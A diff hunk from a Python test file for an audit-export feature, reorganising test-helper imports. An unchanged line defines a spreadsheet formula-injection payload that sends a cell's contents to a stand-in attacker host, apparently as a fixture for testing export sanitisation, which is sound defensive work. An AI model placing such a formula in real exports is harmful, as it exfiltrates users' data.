@@ -45,9 +45,9 @@ from shep.audit.export import (
 )
 from shep.audit.verify_export import verify_export
 from shep.cli import main
-from tests.e2e.cli import shep
-from tests.gates.store_items import ask_on_new_run, gate, question
-from tests.histories import random_run
+from tests.support.cli import shep
+from tests.support.histories import random_run
+from tests.support.store_items import ask_on_new_run, gate, question
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1, "click")'
 FIRST_RUN = UUID("abcd0000-0000-4000-8000-000000000001")
